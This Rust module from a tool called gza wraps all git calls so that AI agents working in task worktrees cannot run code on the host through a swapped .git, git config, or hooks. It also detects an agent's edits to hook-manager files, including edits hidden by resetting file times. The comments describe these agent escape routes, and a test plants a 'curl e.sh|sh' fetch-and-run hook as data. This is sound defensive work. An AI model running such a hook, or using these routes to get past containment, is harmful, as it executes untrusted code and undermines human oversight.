//! Starting git: the one place that runs it, gives the commits it makes an author, and turns its
//! failures into one-line errors.
//!
//! Every git command gza runs on the host goes through [`command`], which enforces the trust
//! rules of docs/security.md:
//! - **A task's worktree** (a directory under `<project>/.gza/worktrees/`) is the agent's: it
//!   may have replaced its `.git` with a repository of its own whose config and hooks would run
//!   here. So gza first checks that its `.git` is still the file git made, pointing at this
//!   repository's `worktrees/NAME` and pointed back at ([`verify_worktree`]), then runs git with
//!   that git directory and work tree given explicitly, and with every key that makes git start
//!   a program overridden on the command line ([`AGENT_CHECKOUT_CONFIG`]; `-c` outranks every
//!   config file and reaches the git processes git itself starts).
//! - **Hooks** never run, anywhere, but for the two commands that act for the person on their
//!   own checkout as plain git would: `merge` and `push` (`gza merge`, `gza pr`).
//! - **gza's own traffic with `origin`** (team mode: pushing a task's branch after its commit,
//!   fetching a branch or a base commit another machine made) goes through [`remote`]: hooks
//!   off (push included: a `pre-push` hook gates the person's pushes, not gza's), no prompt, no
//!   tags, and a time limit after which git and everything it started (ssh, a remote helper)
//!   are killed.

use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Output};

use crate::error::{Error, Result};

/// Subcommands that can write commits, so they need an identity and must not start git's
/// background maintenance (about 10 ms each) or an editor.
const COMMITTING: [&str; 4] = ["commit", "merge", "rebase", "cherry-pick"];

/// Subcommands that run the person's own hooks, as `git merge` and `git push` would: gza runs
/// them only for `gza merge` and `gza pr`, on the person's own checkout.
const WITH_USER_HOOKS: [&str; 2] = ["merge", "push"];

/// Settings given on the command line for every command in a task's worktree: no program the
/// repository's configuration names is started (fsmonitor, hooks, pager, editors, credential
/// helpers, ssh, any transport), and no git is started in a repository the agent nested inside
/// its worktree (submodules ignored, bare repositories only when named).
pub const AGENT_CHECKOUT_CONFIG: &[&str] = &[
    "core.fsmonitor=false",
    "core.hooksPath=/dev/null",
    "core.pager=cat",
    "core.editor=true",
    "sequence.editor=true",
    "core.sshCommand=false",
    "core.askPass=",
    "credential.helper=",
    "protocol.allow=never",
    "diff.ignoreSubmodules=all",
    "status.submoduleSummary=false",
    "submodule.recurse=false",
    "safe.bareRepository=explicit",
    "commit.gpgSign=false",
    "tag.gpgSign=false",
    "maintenance.auto=false",
    "gc.auto=0",
];

/// A git command in `dir`, set up for `args`. In a task's worktree it is checked first and
/// fails with [`Error::UnsafeCheckout`] when the agent replaced its `.git`.
fn command(dir: &Path, args: &[&str]) -> Result<Command> {
    let hooks = if args.first().is_some_and(|a| WITH_USER_HOOKS.contains(a)) {
        Hooks::Person
    } else {
        Hooks::Off
    };
    command_with(dir, args, hooks)
}

/// Whether a git command on the person's own checkout runs their hooks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Hooks {
    /// As plain git would (never in a task's worktree).
    Person,
    /// `core.hooksPath=/dev/null`.
    Off,
}

/// [`command`], with the person's hooks run or not as `hooks` says (in a task's worktree, never).
fn command_with(dir: &Path, args: &[&str], hooks: Hooks) -> Result<Command> {
    let mut cmd = Command::new("git");
    // Where git looks is decided here alone, never by the caller's environment.
    for var in [
        "GIT_DIR",
        "GIT_WORK_TREE",
        "GIT_INDEX_FILE",
        "GIT_COMMON_DIR",
        "GIT_OBJECT_DIRECTORY",
        "GIT_CONFIG_PARAMETERS",
        "GIT_CONFIG_COUNT",
        "GIT_EXTERNAL_DIFF",
        "GIT_SSH",
        "GIT_SSH_COMMAND",
        "GIT_ASKPASS",
        "GIT_PAGER",
    ] {
        cmd.env_remove(var);
    }
    // The identity is the person's: asked of their own checkout, never of an agent's.
    let mut identity_dir = dir.to_path_buf();
    let agents = match task_worktree(dir) {
        Some((root, work_tree)) => {
            identity_dir = root.clone();
            let git_dir = verify_worktree(&root, &work_tree)?;
            cmd.arg("--git-dir")
                .arg(git_dir)
                .arg("--work-tree")
                .arg(&work_tree)
                .current_dir(&work_tree);
            for setting in AGENT_CHECKOUT_CONFIG {
                cmd.args(["-c", setting]);
            }
            true
        }
        None => {
            cmd.arg("-C").arg(dir);
            false
        }
    };
    if hooks == Hooks::Off || agents {
        cmd.args(["-c", "core.hooksPath=/dev/null"]);
    }
    let committing = args.first().is_some_and(|a| COMMITTING.contains(a));
    if committing {
        cmd.args(["-c", "maintenance.auto=false"]);
    }
    cmd.args(args);
    // Merge and rebase messages are read (and shown) in English.
    if committing {
        cmd.env("LC_ALL", "C");
    }
    // git must never wait for a person: no editor, no credential prompt.
    cmd.env("GIT_EDITOR", "true")
        .env("GIT_TERMINAL_PROMPT", "0")
        .env("GIT_MERGE_AUTOEDIT", "no");
    // Commits need an identity; a machine without one configured still gets a clear author.
    if committing && !has_identity(&identity_dir) {
        for (key, value) in [
            ("GIT_AUTHOR_NAME", "gza"),
            ("GIT_AUTHOR_EMAIL", "gza@localhost"),
            ("GIT_COMMITTER_NAME", "gza"),
            ("GIT_COMMITTER_EMAIL", "gza@localhost"),
        ] {
            cmd.env(key, value);
        }
    }
    Ok(cmd)
}

/// Where gza makes task worktrees under a project root: `.gza/worktrees/<name>` (what
/// `Project::worktrees_dir` says; a test there checks they agree).
pub const TASK_WORKTREES: (&str, &str) = (".gza", "worktrees");

/// When `dir` lies in a task's worktree (`<root>/.gza/worktrees/<name>[/…]`): the project root
/// and the worktree's top directory.
fn task_worktree(dir: &Path) -> Option<(PathBuf, PathBuf)> {
    let dir = std::path::absolute(dir).ok()?;
    let parts: Vec<_> = dir.components().collect();
    let at = parts.windows(3).rposition(|w| {
        w[0].as_os_str() == TASK_WORKTREES.0
            && w[1].as_os_str() == TASK_WORKTREES.1
            && matches!(w[2], std::path::Component::Normal(_))
    })?;
    let root: PathBuf = parts[..at].iter().collect();
    let work_tree: PathBuf = parts[..at + 3].iter().collect();
    Some((root, work_tree))
}

/// The repository's common git directory, as the project's own checkout names it (asked once
/// per root and process).
fn common_dir(root: &Path) -> Result<PathBuf> {
    use std::collections::HashMap;
    use std::sync::{Mutex, OnceLock};
    static KNOWN: OnceLock<Mutex<HashMap<PathBuf, PathBuf>>> = OnceLock::new();
    let known = KNOWN.get_or_init(Mutex::default);
    if let Some(dir) = known.lock().expect("common dir cache").get(root) {
        return Ok(dir.clone());
    }
    let dir = run(
        root,
        &["rev-parse", "--path-format=absolute", "--git-common-dir"],
    )?;
    let dir = PathBuf::from(dir)
        .canonicalize()
        .map_err(|e| Error::io(root, "resolve the git directory of", e))?;
    known
        .lock()
        .expect("common dir cache")
        .insert(root.to_path_buf(), dir.clone());
    Ok(dir)
}

/// Check that `work_tree` is still the linked worktree git made for the repository at `root`:
/// its `.git` is a regular file (not a directory, a symlink or gone) naming a directory directly
/// in the repository's `worktrees/`, and that directory's `gitdir` (which git wrote, and which
/// the agent cannot write) names this `.git` back. Returns that git directory.
pub fn verify_worktree(root: &Path, work_tree: &Path) -> Result<PathBuf> {
    let unsafe_ = |why: String| Error::UnsafeCheckout {
        dir: work_tree.to_path_buf(),
        why,
    };
    let dot_git = work_tree.join(".git");
    let meta = match std::fs::symlink_metadata(&dot_git) {
        Ok(meta) => meta,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(unsafe_("its .git file was removed".into()));
        }
        Err(e) => return Err(Error::io(&dot_git, "inspect", e)),
    };
    if !meta.is_file() {
        let what = if meta.is_dir() {
            "a directory (a repository of the agent's own)"
        } else if meta.file_type().is_symlink() {
            "a symbolic link"
        } else {
            "something other than a file"
        };
        return Err(unsafe_(format!("its .git was replaced by {what}")));
    }
    let text = crate::fsutil::read_regular_file(&dot_git, 4096)
        .map_err(|e| unsafe_(format!("its .git cannot be read: {e}")))?;
    let text = String::from_utf8_lossy(&text);
    let named = text
        .strip_prefix("gitdir:")
        .map(str::trim)
        .filter(|t| !t.is_empty() && !t.contains('\n'))
        .ok_or_else(|| unsafe_("its .git file no longer names a git directory".into()))?;
    let named = work_tree.join(named);
    let git_dir = named.canonicalize().map_err(|_| {
        unsafe_(format!(
            "its .git names {}, which does not exist",
            named.display()
        ))
    })?;
    let worktrees = common_dir(root)?.join("worktrees");
    if git_dir.parent() != Some(worktrees.as_path()) {
        return Err(unsafe_(format!(
            "its .git names {}, not a worktree of this repository",
            git_dir.display()
        )));
    }
    let back = std::fs::read(git_dir.join("gitdir"))
        .ok()
        .map(|b| PathBuf::from(String::from_utf8_lossy(&b).trim()));
    let expected = work_tree
        .canonicalize()
        .map_err(|e| Error::io(work_tree, "resolve", e))?
        .join(".git");
    let back = back.map(|b| {
        let b = git_dir.join(b);
        b.parent()
            .and_then(|p| p.canonicalize().ok())
            .map(|p| p.join(".git"))
            .unwrap_or(b)
    });
    if back.as_deref() != Some(expected.as_path()) {
        return Err(unsafe_(format!(
            "its .git names {}, which belongs to another worktree",
            git_dir.display()
        )));
    }
    Ok(git_dir)
}

fn start_error(dir: &Path, e: std::io::Error) -> Error {
    match e.kind() {
        std::io::ErrorKind::NotFound => {
            Error::Usage("git is not installed; install git to run code tasks in worktrees".into())
        }
        _ => Error::io(dir, "run git in", e),
    }
}

/// Run git in `dir` and return its output whatever its exit status (for commands whose
/// failure is an answer, such as a merge that conflicts).
pub fn output(dir: &Path, args: &[&str]) -> Result<Output> {
    let started = std::time::Instant::now();
    let out = command(dir, args)?
        .output()
        .map_err(|e| start_error(dir, e))?;
    traced(dir, args, started, out.status);
    Ok(out)
}

/// A git command that ran, for `-vv`: what, where, how it ended and how long it took.
fn traced(dir: &Path, args: &[&str], started: std::time::Instant, status: ExitStatus) {
    tracing::debug!(
        dir = %dir.display(),
        exit = status.code(),
        ms = started.elapsed().as_millis() as u64,
        "git {}",
        args.join(" ")
    );
}

/// Run git in `dir`; stdout on success, an [`Error::Git`] naming the command otherwise. Callers
/// for whom a failure is an answer (does this branch exist?) turn it into one with `.ok()`.
/// [`output`] of a `git merge` (or its commit) on the person's checkout with their hooks off:
/// a hook may run whatever the branch changed, so none runs at a merge gza makes.
pub fn output_without_hooks(dir: &Path, args: &[&str]) -> Result<Output> {
    let started = std::time::Instant::now();
    let out = command_with(dir, args, Hooks::Off)?
        .output()
        .map_err(|e| start_error(dir, e))?;
    traced(dir, args, started, out.status);
    Ok(out)
}

/// Which of the hooks `names` the checkout at `root` has: executable files in the folder git
/// runs hooks from (`core.hooksPath`, else `.git/hooks`), as git would find them. Said to the
/// person when gza runs git without them.
pub fn hooks_present(root: &Path, names: &[&str]) -> Vec<String> {
    use std::os::unix::fs::PermissionsExt;
    let Ok(mut cmd) = command_with(
        root,
        &["rev-parse", "--path-format=absolute", "--git-path", "hooks"],
        Hooks::Person,
    ) else {
        return Vec::new();
    };
    let Some(dir) = cmd
        .output()
        .ok()
        .filter(|o| o.status.success())
        .map(|o| PathBuf::from(String::from_utf8_lossy(&o.stdout).trim_end()))
    else {
        return Vec::new();
    };
    names
        .iter()
        .filter(|n| {
            std::fs::metadata(dir.join(n))
                .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
        })
        .map(|n| n.to_string())
        .collect()
}

/// Files and folders of the checkout that a git hook manager reads when the person's hooks run
/// (lefthook, pre-commit, husky 4, simple-git-hooks, lint-staged, commitlint, overcommit):
/// what they say runs on this machine, outside any sandbox, at the person's next `git commit`
/// or `git push`. `package.json` carries husky 4's, simple-git-hooks' and lint-staged's keys
/// and the scripts a hook runs (`npm test`). An in-place agent may not change them (bwrap
/// binds those that exist read-only), and gza says after an in-place task which of them it
/// created, changed or removed (docs/security.md §2).
pub const HOOK_MANAGER_FILES: &[&str] = &[
    "lefthook.yml",
    "lefthook.yaml",
    "lefthook.json",
    "lefthook.jsonc",
    "lefthook.toml",
    ".lefthook.yml",
    ".lefthook.yaml",
    ".lefthook.json",
    ".lefthook.jsonc",
    ".lefthook.toml",
    "lefthook-local.yml",
    "lefthook-local.yaml",
    "lefthook-local.json",
    "lefthook-local.jsonc",
    "lefthook-local.toml",
    ".lefthook-local.yml",
    ".lefthook-local.yaml",
    ".lefthook-local.json",
    ".lefthook-local.jsonc",
    ".lefthook-local.toml",
    ".config/lefthook.yml",
    ".config/lefthook.yaml",
    ".config/lefthook-local.yml",
    ".config/lefthook-local.yaml",
    ".lefthook",
    ".lefthook-local",
    ".pre-commit-config.yaml",
    ".pre-commit-config.yml",
    "package.json",
    ".huskyrc",
    ".huskyrc.json",
    ".huskyrc.yaml",
    ".huskyrc.yml",
    ".huskyrc.js",
    ".huskyrc.cjs",
    "husky.config.js",
    "husky.config.cjs",
    ".simple-git-hooks.json",
    ".simple-git-hooks.js",
    ".simple-git-hooks.cjs",
    "simple-git-hooks.json",
    "simple-git-hooks.js",
    "simple-git-hooks.cjs",
    ".lintstagedrc",
    ".lintstagedrc.json",
    ".lintstagedrc.yaml",
    ".lintstagedrc.yml",
    ".lintstagedrc.js",
    ".lintstagedrc.cjs",
    ".lintstagedrc.mjs",
    "lint-staged.config.js",
    "lint-staged.config.cjs",
    "lint-staged.config.mjs",
    ".commitlintrc",
    ".commitlintrc.json",
    ".commitlintrc.yaml",
    ".commitlintrc.yml",
    ".commitlintrc.js",
    ".commitlintrc.cjs",
    "commitlint.config.js",
    "commitlint.config.cjs",
    "commitlint.config.mjs",
    "commitlint.config.ts",
    ".overcommit.yml",
];

/// A file's size, modification time and mode (a folder's folded with its entries').
pub type Stamp = (u64, i128, u32);

/// Each of [`HOOK_MANAGER_FILES`] under `root` as it is now: its size, modification time and
/// kind (a folder by its entries' too), `None` when absent. Two readings that differ name what
/// changed in between.
pub fn hook_manager_stamps(root: &Path) -> Vec<(&'static str, Option<Stamp>)> {
    use std::os::unix::fs::MetadataExt;
    fn stamp(path: &Path, depth: u32) -> Option<Stamp> {
        let m = std::fs::symlink_metadata(path).ok()?;
        // The change time too: an agent can set a file's modification time back (`touch -d`)
        // after rewriting it at the same size, never its change time.
        let mut acc = (
            m.size(),
            (i128::from(m.mtime()) * 1_000_000_000 + i128::from(m.mtime_nsec()))
                .wrapping_mul(31)
                .wrapping_add(i128::from(m.ctime()) * 1_000_000_000 + i128::from(m.ctime_nsec())),
            m.mode(),
        );
        if m.is_dir() && depth < 4 {
            let mut entries: Vec<_> = std::fs::read_dir(path)
                .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
                .unwrap_or_default();
            entries.sort();
            for (i, entry) in entries.iter().take(1000).enumerate() {
                if let Some((size, time, mode)) = stamp(entry, depth + 1) {
                    let i = i as u64 + 1;
                    acc.0 = acc.0.wrapping_mul(31).wrapping_add(size ^ i);
                    acc.1 = acc.1.wrapping_mul(31).wrapping_add(time);
                    acc.2 = acc.2.wrapping_mul(31).wrapping_add(mode);
                }
            }
        }
        Some(acc)
    }
    HOOK_MANAGER_FILES
        .iter()
        .map(|name| (*name, stamp(&root.join(name), 0)))
        .collect()
}

/// The folder the person's hooks run from when it is part of the checkout's files
/// (`core.hooksPath` set to `.husky`, say), relative to `root`: a branch can then change the
/// hooks it is merged under. `None` for hooks in `.git` (no commit reaches them) or outside.
pub fn hooks_in_tree(root: &Path) -> Option<PathBuf> {
    let mut cmd = command_with(
        root,
        &[
            "rev-parse",
            "--path-format=absolute",
            "--git-path",
            "hooks",
            "--git-common-dir",
        ],
        Hooks::Person,
    )
    .ok()?;
    let out = cmd.output().ok()?;
    if !out.status.success() {
        return None;
    }
    let text = String::from_utf8_lossy(&out.stdout);
    let mut lines = text.lines();
    let hooks = PathBuf::from(lines.next()?);
    let git_dir = PathBuf::from(lines.next()?);
    let real = |p: &Path| p.canonicalize().unwrap_or_else(|_| p.to_path_buf());
    let (hooks, git_dir, root) = (real(&hooks), real(&git_dir), real(root));
    if hooks.starts_with(&git_dir) {
        return None;
    }
    hooks.strip_prefix(&root).ok().map(Path::to_path_buf)
}

pub fn run(dir: &Path, args: &[&str]) -> Result<String> {
    let out = output(dir, args)?;
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).trim_end().to_string())
    } else {
        Err(failed(dir, args, &out.stderr))
    }
}

/// The error for git exiting non-zero: the command, where, and git's message as one line.
fn failed(dir: &Path, args: &[&str], stderr: &[u8]) -> Error {
    Error::Git {
        dir: dir.to_path_buf(),
        command: args.join(" "),
        message: one_line(&String::from_utf8_lossy(stderr)),
    }
}

/// True when git exits 0.
pub fn succeeds(dir: &Path, args: &[&str]) -> bool {
    output(dir, args).is_ok_and(|o| o.status.success())
}

/// Run git in `dir` and keep at most `max` bytes of its stdout; returns them and how many bytes
/// it printed in all. Fails like [`run`] when git does.
pub fn output_capped(dir: &Path, args: &[&str], max: usize) -> Result<(Vec<u8>, usize)> {
    use std::io::Read;
    let started = std::time::Instant::now();
    let mut child = command(dir, args)?
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .map_err(|e| start_error(dir, e))?;
    let mut stdout = child.stdout.take().expect("stdout is piped");
    let mut kept = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    let mut total = 0;
    loop {
        let n = match stdout.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => n,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(Error::io(dir, "read git output in", e)),
        };
        let room = max.saturating_sub(kept.len());
        kept.extend_from_slice(&buf[..n.min(room)]);
        total += n;
    }
    let out = child
        .wait_with_output()
        .map_err(|e| Error::io(dir, "run git in", e))?;
    traced(dir, args, started, out.status);
    if !out.status.success() {
        return Err(failed(dir, args, &out.stderr));
    }
    Ok((kept, total))
}

/// Run git in `dir` with this process's stdout (for output a person reads, such as a diff,
/// which git pages and colours itself). Git's stderr is passed on when it succeeds and becomes
/// the [`Error::Git`] when it fails.
pub fn run_to_stdout(dir: &Path, args: &[&str]) -> Result<()> {
    let started = std::time::Instant::now();
    let out = command(dir, args)?
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|child| child.wait_with_output())
        .map_err(|e| start_error(dir, e))?;
    traced(dir, args, started, out.status);
    if out.status.success() {
        eprint!("{}", String::from_utf8_lossy(&out.stderr));
        Ok(())
    } else {
        Err(failed(dir, args, &out.stderr))
    }
}

/// The remote gza pushes task branches to and fetches them from: the clone's own `origin`
/// (from the person's `.git/config`; no setting names another).
pub const REMOTE: &str = "origin";

/// Run `git fetch` or `git push` (`args`) against a remote for gza itself, in the person's
/// checkout at `dir`: hooks off whatever the subcommand, no prompt (stdin closed), and at most
/// `timeout`, after which git's process group (ssh, remote helpers) is killed and the error
/// says so. stdout on success, an [`Error::Git`] otherwise.
pub fn remote(dir: &Path, args: &[&str], timeout: std::time::Duration) -> Result<String> {
    use std::io::Read;
    use std::os::unix::process::CommandExt;
    let started = std::time::Instant::now();
    let mut child = command_with(dir, args, Hooks::Off)?
        // Its messages are read ("couldn't find remote ref") and shown in English.
        .env("LC_ALL", "C")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .process_group(0)
        .spawn()
        .map_err(|e| start_error(dir, e))?;
    let pgid = i64::from(child.id());
    let reader = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = pipe.by_ref().take(1 << 20).read_to_end(&mut buf);
            // Whatever is left is drained so git never blocks on a full pipe.
            let _ = std::io::copy(&mut pipe, &mut std::io::sink());
            buf
        })
    };
    let stdout = reader(Box::new(child.stdout.take().expect("stdout is piped")));
    let stderr = reader(Box::new(child.stderr.take().expect("stderr is piped")));
    let deadline = started + timeout;
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break Some(status),
            Ok(None) if std::time::Instant::now() >= deadline => {
                // git is not reaped yet, so its group id is still its own.
                crate::process::signal_group(pgid, libc::SIGKILL);
                let _ = child.wait();
                break None;
            }
            Ok(None) => std::thread::sleep(std::time::Duration::from_millis(10)),
            Err(e) => return Err(Error::io(dir, "wait for git in", e)),
        }
    };
    let out = stdout.join().unwrap_or_default();
    let err = stderr.join().unwrap_or_default();
    let Some(status) = status else {
        tracing::debug!(dir = %dir.display(), "git {} timed out", args.join(" "));
        return Err(Error::Git {
            dir: dir.to_path_buf(),
            command: args.join(" "),
            message: format!("no answer within {} s", timeout.as_secs()),
        });
    };
    traced(dir, args, started, status);
    if status.success() {
        Ok(String::from_utf8_lossy(&out).trim_end().to_string())
    } else {
        Err(failed(dir, args, &err))
    }
}

/// Git's message as one line: lines joined with `; `, hints dropped.
pub fn one_line(stderr: &str) -> String {
    stderr
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with("hint:"))
        .collect::<Vec<_>>()
        .join("; ")
}

/// Whether git has a committer identity here: from the environment, else asked once per
/// process (per repository).
fn has_identity(dir: &Path) -> bool {
    let set = |key: &str| std::env::var_os(key).is_some_and(|v| !v.is_empty());
    if set("GIT_AUTHOR_EMAIL") && set("GIT_COMMITTER_EMAIL") {
        return true;
    }
    use std::collections::HashMap;
    use std::sync::{Mutex, OnceLock};
    static KNOWN: OnceLock<Mutex<HashMap<PathBuf, bool>>> = OnceLock::new();
    let known = KNOWN.get_or_init(Mutex::default);
    let key = dir.to_path_buf();
    if let Some(&answer) = known.lock().expect("identity cache").get(&key) {
        return answer;
    }
    let answer = Command::new("git")
        .arg("-C")
        .arg(dir)
        .env_remove("GIT_DIR")
        .env_remove("GIT_CONFIG_PARAMETERS")
        .args(["config", "user.email"])
        .output()
        .is_ok_and(|o| o.status.success() && !o.stdout.is_empty());
    known.lock().expect("identity cache").insert(key, answer);
    answer
}

#[cfg(test)]
mod tests {

    /// A hook manager's file rewritten at the same size, its modification time set back as an
    /// agent can (`touch -r`), still reads as changed: the change time cannot be set back.
    #[test]
    fn a_hook_managers_file_rewritten_with_its_old_time_still_reads_as_changed() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("lefthook.yml");
        let keep = dir.path().join("time");
        std::fs::write(&file, "pre-commit: {commands: {t: {run: make tests12}}}\n").unwrap();
        std::fs::write(&keep, "").unwrap();
        let touch = |args: &[&std::path::Path]| {
            let ok = std::process::Command::new("touch")
                .arg("-m")
                .arg("-r")
                .args(args)
                .status()
                .unwrap()
                .success();
            assert!(ok);
        };
        touch(&[&file, &keep]);
        let before = hook_manager_stamps(dir.path());
        std::thread::sleep(std::time::Duration::from_millis(20));
        std::fs::write(&file, "pre-commit: {commands: {t: {run: curl e.sh|sh}}}\n").unwrap();
        touch(&[&keep, &file]);
        let mtime = |p: &std::path::Path| std::fs::metadata(p).unwrap().modified().unwrap();
        assert_eq!(mtime(&file), mtime(&keep), "the time was set back");
        let after = hook_manager_stamps(dir.path());
        let of = |v: &[(&str, Option<Stamp>)]| v.iter().find(|e| e.0 == "lefthook.yml").unwrap().1;
        assert!(of(&before).is_some());
        assert_ne!(of(&before), of(&after));
    }
    use super::*;

    #[test]
    fn messages_become_one_line_without_hints() {
        assert_eq!(
            one_line(
                "error: could not apply 1a2b\nhint: Resolve all conflicts\n\nCONFLICT (content): a.txt\n"
            ),
            "error: could not apply 1a2b; CONFLICT (content): a.txt"
        );
    }
}
